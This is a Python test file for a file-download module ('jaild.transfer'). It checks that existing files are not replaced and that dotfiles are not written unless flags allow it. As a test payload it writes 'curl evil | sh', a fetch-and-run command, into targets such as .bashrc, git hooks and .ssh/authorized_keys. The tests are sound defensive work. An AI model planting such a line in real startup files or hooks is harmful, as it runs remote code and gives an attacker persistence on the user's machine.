"""Downloads into a directory that already holds files: nothing there is replaced unasked,
and a job's output never becomes a dotfile unasked (jaild.transfer.save_files, refusals)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from jaild.transfer import UnsafePath, is_dotfile, refusals, save_files


def _dest(tmp_path: Path) -> Path:
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "result.csv").write_bytes(b"the user's own results")
    (dest / ".bashrc").write_bytes(b"# the user's shell")
    return dest


def test_an_existing_file_is_kept_unless_overwrite(tmp_path: Path) -> None:
    dest = _dest(tmp_path)
    with pytest.raises(UnsafePath) as info:
        save_files(str(dest), {"result.csv": b"the job's", "new.txt": b"n"})
    assert info.value.path == "result.csv"
    assert "already exists" in info.value.reason and "--overwrite" in info.value.reason
    assert (dest / "result.csv").read_bytes() == b"the user's own results"
    assert not (dest / "new.txt").exists()  # nothing written: all or nothing
    # the control: asked to, the same call replaces it
    written = save_files(str(dest), {"result.csv": b"the job's", "new.txt": b"n"},
                         overwrite=True)
    assert written == [str(dest / "new.txt"), str(dest / "result.csv")]
    assert (dest / "result.csv").read_bytes() == b"the job's"


@pytest.mark.parametrize("path", [".bashrc", ".profile", ".git/hooks/pre-commit",
                                  "sub/.envrc", ".ssh/authorized_keys"])
def test_dotfiles_need_dotfiles_and_existing_ones_overwrite_too(tmp_path: Path,
                                                                 path: str) -> None:
    dest = _dest(tmp_path)
    before = {p: p.read_bytes() for p in dest.rglob("*") if p.is_file()}
    for overwrite in (False, True):  # --overwrite alone does not let a dotfile in
        with pytest.raises(UnsafePath) as info:
            save_files(str(dest), {path: b"curl evil | sh\n"}, overwrite=overwrite)
        assert info.value.path == path and "--dotfiles" in info.value.reason
    assert {p: p.read_bytes() for p in dest.rglob("*") if p.is_file()} == before
    existed = (dest / path).exists()
    if existed:  # --dotfiles alone does not replace one
        with pytest.raises(UnsafePath, match="--overwrite"):
            save_files(str(dest), {path: b"curl evil | sh\n"}, dotfiles=True)
        assert (dest / path).read_bytes() == before[dest / path]
    # the control: with both, it is written
    save_files(str(dest), {path: b"curl evil | sh\n"}, dotfiles=True, overwrite=existed)
    assert (dest / path).read_bytes() == b"curl evil | sh\n"


def test_refusals_lists_each_file_with_what_to_pass(tmp_path: Path) -> None:
    dest = _dest(tmp_path)
    files = {"result.csv": b"1", ".bashrc": b"2", "new/.hidden": b"3", "new/plain": b"4"}
    refused = refusals(str(dest), files)
    assert sorted(refused) == [".bashrc", "new/.hidden", "result.csv"]
    # an existing dotfile needs both flags, and its reason says so
    assert "--dotfiles and --overwrite" in refused[".bashrc"]
    assert "--dotfiles" in refused["new/.hidden"] and "--overwrite" not in refused["new/.hidden"]
    assert "--overwrite" in refused["result.csv"] and str(dest) in refused["result.csv"]
    with_overwrite = refusals(str(dest), files, overwrite=True)
    assert sorted(with_overwrite) == [".bashrc", "new/.hidden"]
    assert "--overwrite" not in with_overwrite[".bashrc"]
    assert sorted(refusals(str(dest), files, dotfiles=True)) == [".bashrc", "result.csv"]
    assert refusals(str(dest), files, overwrite=True, dotfiles=True) == {}
    assert refusals(str(tmp_path / "missing"), {"a": b""}) == {}  # need not exist yet
    assert is_dotfile("a/.b/c") and not is_dotfile("a.b/c.d")


def test_a_file_appearing_after_the_check_is_kept(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """The write creates the file exclusively (O_EXCL): a file that appears between the
    check and the write (a race, here: a check that saw nothing) is still not replaced."""
    import jaild.transfer

    dest = tmp_path / "dest"
    dest.mkdir()
    monkeypatch.setattr(jaild.transfer, "_check_existing", lambda *args: set())
    (dest / "late.txt").write_bytes(b"appeared")
    with pytest.raises(UnsafePath, match="appeared while writing; it is kept"):
        save_files(str(dest), {"late.txt": b"the job's"})
    assert (dest / "late.txt").read_bytes() == b"appeared"
    save_files(str(dest), {"late.txt": b"the job's"}, overwrite=True)  # control
    assert (dest / "late.txt").read_bytes() == b"the job's"
    assert os.stat(dest / "late.txt").st_mode & 0o777 == 0o644
